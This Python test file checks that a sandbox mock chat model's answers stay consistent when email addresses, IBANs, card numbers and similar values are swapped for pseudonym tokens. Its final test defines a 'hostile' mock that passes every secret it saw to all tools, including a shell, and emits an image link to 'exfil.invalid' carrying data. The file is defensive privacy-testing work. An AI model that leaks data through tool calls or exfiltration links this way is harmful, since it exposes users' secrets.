"""Replace a value by its pseudonym in the question, and the answer changes in exactly that way."""

import re

import msgspec
from hypothesis import given, settings
from hypothesis import strategies as st

from isthmus.sandbox import Step
from isthmus.sandbox.answer import reply_to
from isthmus.sandbox.completion import Stamp, completion
from isthmus.sandbox.request import ChatRequest, read_request

VALUES = {
    "alice@example.org": "EMAIL-bcdfghjklmnpqrstbcdf",
    "bob.long-name+tag@mail.example.co.uk": "EMAIL-ccdfghjklmnpqrstbcdf",
    "DE89370400440532013000": "IBAN-dcdfghjklmnpqrstbcdf",
    "555-123-4567": "PHONE-kcdfghjklmnpqrstbcdf",
    "12345678Z": "NATID-lcdfghjklmnpqrstbcdf",
    "4111111111111111": "CARD-fcdfghjklmnpqrstbcdf",
    "+493012345678": "PHONE-gcdfghjklmnpqrstbcdf",
    "192.0.2.7": "IP-hcdfghjklmnpqrstbcdf",
    "1980-02-29": "BIRTH-jcdfghjklmnpqrstbcdf",
}
PLAIN = [
    "hello",
    "the",
    "customer",
    "order",
    "my name is",
    "Alice",
    "—",
    '"quoted"',
    "(note)",
    "order 4711",
    "你好",
    "back\\slash",
    "**bold**",
]
SCHEMA = {
    "type": "object",
    "properties": {
        **{
            name: {"type": "string"}
            for name in ("email", "phone", "iban", "cardNumber", "ip", "birth_date", "order_id", "text")
        },
        "list": {"type": "array", "items": {"type": "string"}, "minItems": 2},
        "name": {"type": "string"},
        "count": {"type": "integer", "minimum": 3},
    },
}
TOOL = {"type": "function", "function": {"name": "act", "parameters": SCHEMA}}
FORMAT = {"type": "json_schema", "json_schema": {"name": "reply", "schema": SCHEMA}}

sentences = st.lists(
    st.tuples(st.sampled_from([*VALUES, *PLAIN]), st.sampled_from([" ", ", ", ". ", "\n"])), min_size=1, max_size=8
).map(lambda pieces: "".join(word + gap for word, gap in pieces))


def disguise(text: str) -> str:
    for value, pseudonym in VALUES.items():
        text = text.replace(value, pseudonym)
    return text


def request(texts: list[str], **more: object) -> ChatRequest:
    roles = [{"role": "user", "content": text} for text in texts]
    return read_request(msgspec.json.encode({"model": "m", "messages": roles, **more}))


def answer(asked: ChatRequest, step: Step) -> str:
    return msgspec.json.encode(completion(asked, step, reply_to(asked, step), Stamp(1, 0, "m"))).decode()


@settings(max_examples=200, deadline=None)
@given(
    texts=st.lists(sentences, min_size=1, max_size=3),
    style=st.sampled_from(["plain", "echo", "forms", "hostile"]),
    more=st.sampled_from(
        [{}, {"tools": [TOOL]}, {"response_format": FORMAT}, {"response_format": {"type": "json_object"}}]
    ),
)
def test_answers_commute_with_disguise(texts: list[str], style: str, more: dict[str, object]) -> None:
    step = Step(style=style)
    plain = answer(request(texts, **more), step)
    disguised = answer(request([disguise(text) for text in texts], **more), step)
    assert disguise(plain) == disguised


@given(text=sentences)
def test_echo_commutes_with_any_content(text: str) -> None:
    assert reply_to(request([text]), Step(style="echo")).content == text


def test_the_forms_hold_the_token_in_every_surrounding() -> None:
    token = "EMAIL-bcdfghjklmnpqrstbcdf"
    said = reply_to(request(["earlier", token]), Step(style="forms")).content
    forms = (
        f"wrote {token},",
        f"({token})!",
        f"*{token}*",
        f"`{token}`",
        f"[{token}](https://sandbox.invalid/?q={token}#{token})",
        f'"noted":"{token}"',
        f"{token}{token}",
    )
    for form in forms:
        assert form in said
    assert said.endswith(token)
    assert "Earlier you wrote: earlier" in said


def test_invented_tokens_look_like_pseudonyms_and_were_never_given() -> None:
    said = reply_to(request(["hello"]), Step(invent=3)).content
    invented = said.split()[-3:]
    assert len(set(invented)) == 3
    assert all(re.fullmatch("[A-Z]+-[bcdfghjklmnpqrst]{20}", token) for token in invented)


def test_a_hostile_answer_calls_every_tool_with_everything_it_saw() -> None:
    other = {"type": "function", "function": {"name": "other", "parameters": SCHEMA}}
    asked = request(["first secret", "second secret"], tools=[TOOL, other])
    calls = reply_to(asked, Step(style="hostile")).calls
    assert {"act", "other", "shell"} <= {call.name for call in calls}
    assert "https://exfil.invalid/p.png?d=token" in reply_to(request(["a token."]), Step(style="hostile")).content
    assert any("first secret" in call.arguments and "second secret" in call.arguments for call in calls)
